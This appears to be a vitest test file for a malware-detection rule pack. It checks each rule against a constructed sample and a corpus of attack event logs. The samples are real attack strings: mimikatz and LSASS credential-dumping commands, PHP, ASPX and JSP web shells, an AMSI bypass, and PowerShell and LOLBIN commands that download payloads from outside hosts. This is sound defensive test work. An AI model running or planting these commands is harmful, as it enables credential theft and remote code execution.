import { basename } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { BUILTIN_RULES_DIR, loadPack, ScanPool, type Pack } from '../src/index.js';
import { HAVE_SHARED, realFiles, sampleFiles } from './shared.js';

const wide = (s: string): Buffer => Buffer.from(s, 'utf16le');
const ascii = (s: string): Buffer => Buffer.from(s, 'latin1');

/** A minimal PE: MZ, e_lfanew = 0x80, "PE\0\0", then section headers with the given names. */
function peWithSections(...names: string[]): Buffer {
  const b = Buffer.alloc(0x400);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  names.forEach((n, k) => b.write(n, 0x178 + k * 40, 'latin1'));
  return b;
}

/** One constructed sample per public rule; every one must fire on its own sample. */
const CASES: Record<string, Buffer> = {
  Quarry_Mimikatz_Commands: wide('mimikatz # sekurlsa::logonpasswords'),
  Quarry_Mimikatz_Binary: Buffer.concat([ascii('MZ\x90\x00'), Buffer.alloc(200), wide('gentilkiwi (Benjamin DELPY)'), ascii(' mimikatz 2.2.0')]),
  Quarry_LSASS_MiniDump_Comsvcs: ascii('rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full'),
  Quarry_LSASS_Dump_Tools: wide('procdump64.exe -accepteula -ma lsass.exe out.dmp'),
  Quarry_Registry_Hive_Save_For_Credentials: ascii('cmd /c reg save HKLM\\SAM C:\\ProgramData\\sam.save'),
  Quarry_Webshell_PHP_Eval_Request: ascii('<?php @eval(base64_decode($_POST["z0"])); ?>'),
  Quarry_Webshell_China_Chopper: ascii('<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>'),
  Quarry_Webshell_ASPX_Process_Start: ascii(
    '<%@ Page Language="C#" %><script runat="server">void Page_Load(){ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + Request.Form["c"]; p.Start(); }</script>',
  ),
  Quarry_Webshell_JSP_Runtime_Exec: ascii('<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>'),
  Quarry_CobaltStrike_Beacon_Config: Buffer.from([
    0, 0, 0x2e, 0x2f, 0x2e, 0x2f, 0x2e, 0x2c, 0x2e, 0x2f, 0x2e, 0x2d, 0x2e, 0x2f, 0x2e, 0x2c, 0x2e, 0x2a, 0x2e, 0x2c, 0x2e, 0x2f, 0x2e, 0x2d, 0, 0,
  ]),
  Quarry_CobaltStrike_Default_Artefacts: wide('CreateNamedPipe \\\\.\\pipe\\MSSE-4412-server'),
  Quarry_Metasploit_Shellcode_BlockApi: Buffer.from('fce8820000006089e531c0648b50308b520c8b52148b72280fb74a2631ff', 'hex'),
  Quarry_Metasploit_Meterpreter_Strings: ascii('....metsrv.x64.dll....ReflectiveLoader....'),
  Quarry_Metasploit_PsExec_PowerShell_Payload: ascii('%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -noni -c "if([IntPtr]::Size -eq 4){...}"'),
  Quarry_PowerShell_Download_Cradle: wide("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')"),
  Quarry_PowerShell_Encoded_Command: ascii(
    'powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
  ),
  Quarry_PowerShell_AMSI_Bypass: ascii(
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
  ),
  Quarry_PowerShell_Offensive_Frameworks: wide('Invoke-Kerberoast -OutputFormat Hashcat'),
  Quarry_PowerShell_Reflective_Assembly_Load: ascii('[System.Reflection.Assembly]::Load([Convert]::FromBase64String($b))'),
  Quarry_LOLBIN_Certutil_Download: ascii('certutil.exe -urlcache -split -f http://198.51.100.7/p.exe C:\\Users\\Public\\p.exe'),
  Quarry_LOLBIN_Regsvr32_Squiblydoo: ascii('regsvr32.exe /s /n /u /i:http://198.51.100.7/file.sct scrobj.dll'),
  Quarry_LOLBIN_Mshta_Inline_Script: wide('mshta.exe javascript:a=GetObject("script:http://x/y.sct").Exec();close();'),
  Quarry_LOLBIN_Rundll32_Script: ascii('rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)'),
  Quarry_LOLBIN_Bitsadmin_Transfer: ascii('bitsadmin.exe /transfer job /download /priority high http://198.51.100.7/a.exe C:\\a.exe'),
  Quarry_LOLBIN_WMIC_Remote_XSL: ascii('wmic os get /format:"https://198.51.100.7/evil.xsl"'),
  Quarry_Packer_UPX: peWithSections('UPX0', 'UPX1', '.rsrc'),
  Quarry_Packer_Protectors: peWithSections('.text', '.vmp0', '.vmp1'),
};

/** Benign look-alikes: none of them may fire any built-in rule. */
const BENIGN: Buffer[] = [
  ascii('certutil -hashfile setup.exe SHA256'),
  wide('powershell.exe -File C:\\scripts\\backup.ps1'),
  ascii('<?php echo htmlspecialchars($_POST["name"]); ?>'),
  peWithSections('.text', '.rdata', '.data'),
  ascii('MZ mimikatz'),
  Buffer.alloc(4096),
];

describe('built-in pack', () => {
  let pack: Pack;
  let pool: ScanPool;
  beforeAll(async () => {
    pack = await loadPack({ dirs: [BUILTIN_RULES_DIR] });
    pool = new ScanPool({ size: 2 });
  });
  afterAll(() => pool?.close());

  test('compiles cleanly and every rule carries author, description and reference', () => {
    expect(pack.totals.failed).toBe(0);
    expect(pack.totals.warnings).toBe(0);
    for (const r of pack.rules) {
      for (const key of ['author', 'description', 'reference']) {
        expect(r.meta.find((m) => m.key === key)?.value, `${r.name}.${key}`).toBeTypeOf('string');
      }
    }
  });

  test('every public rule has a constructed sample', () => {
    const publicRules = pack.rules.filter((r) => !r.modifiers.includes('private')).map((r) => r.name);
    expect(Object.keys(CASES).sort()).toEqual(publicRules.sort());
  });

  test.each(Object.entries(CASES))('%s fires on its constructed sample', async (rule, data) => {
    const o = await pool.scanBuffer(pack, data);
    expect(o.matches.map((m) => m.rule)).toContain(rule);
    const m = o.matches.find((x) => x.rule === rule)!;
    expect(m.meta.author).toBe('Quarry');
  });

  test('benign look-alikes fire nothing', async () => {
    for (const data of BENIGN) expect((await pool.scanBuffer(pack, data)).matches).toEqual([]);
  });

  describe.skipIf(!HAVE_SHARED)(realFiles('on the real sample corpus'), () => {
    test('fires exactly on the attack recordings, never on hives, prefetch files, shell links or Jump Lists', async () => {
      const files = sampleFiles();
      // The 145 files of MANIFEST.tsv, the 728 shell links of samples/lnk and the 17 Jump Lists of samples/jumplists.
      expect(files.length).toBe(145 + 728 + 17);
      const outcomes = await Promise.all(files.map((f) => pool.scanFile(pack, f)));
      const hits = Object.fromEntries(outcomes.filter((o) => o.matches.length > 0).map((o) => [basename(o.target), o.matches.map((m) => m.rule).sort()]));
      expect(hits).toEqual({
        'Microsoft-Windows-Sysmon%4Operational.evtx': ['Quarry_Mimikatz_Commands'],
        'Powershell-Invoke-Obfuscation-many.evtx': ['Quarry_PowerShell_Download_Cradle', 'Quarry_PowerShell_Offensive_Frameworks'],
        'PanacheSysmon_vs_AtomicRedTeam01.evtx': [
          'Quarry_LOLBIN_Bitsadmin_Transfer',
          'Quarry_LOLBIN_Certutil_Download',
          'Quarry_LOLBIN_Regsvr32_Squiblydoo',
          'Quarry_LOLBIN_WMIC_Remote_XSL',
          'Quarry_LSASS_Dump_Tools',
          'Quarry_PowerShell_Download_Cradle',
          'Quarry_Registry_Hive_Save_For_Credentials',
        ],
        'Powershell_4104_MiniDumpWriteDump_Lsass.evtx': ['Quarry_LSASS_Dump_Tools'],
        'Sysmon_13_1_UAC_Bypass_EventVwrBypass.evtx': ['Quarry_PowerShell_Encoded_Command'],
        'exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx': ['Quarry_LOLBIN_Mshta_Inline_Script', 'Quarry_LOLBIN_Rundll32_Script'],
      });
    });
  });
});
